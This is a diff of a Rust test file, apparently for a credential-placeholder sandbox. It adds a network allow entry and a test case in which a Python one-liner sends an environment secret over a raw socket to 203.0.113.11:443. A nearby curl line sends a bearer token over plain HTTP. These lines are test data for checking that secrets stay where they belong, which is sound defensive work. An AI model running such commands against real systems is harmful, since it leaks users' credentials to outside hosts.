@@ -36,7 +36,7 @@ const MARK: &str = "ringfence-placeholder-";
 const POLICY: &str = r#"version = 1
 [network]
 mode = "rules"
-allow = ["api.example", "shared.example", "other.example", "good.example"]
+allow = ["api.example", "shared.example", "other.example", "good.example", "203.0.113.11:443"]
 [environment]
 pass = ["REAL_TOKEN"]
 [[network.credential]]
@@ -150,6 +150,11 @@ const MISPLACED: &[Misplaced] = &[
         name: "to another host without encryption",
         line: "$C -H \"Authorization: Bearer $P\" http://good.example/x",
         reaches: "data 203.0.113.10 80 GET /x",
+    },
+    Misplaced {
+        name: "to an address on a port that is looked into",
+        line: "python3 -c 'import os,socket; s=socket.create_connection((\"203.0.113.11\",443),3); s.sendall((\"\\x01hello \"+os.environ[\"P\"]).encode())'; sleep 0.3",
+        reaches: "data 203.0.113.11 443 \\x01hello",
     },
     Misplaced {
         name: "to another host, in no protocol of the web",
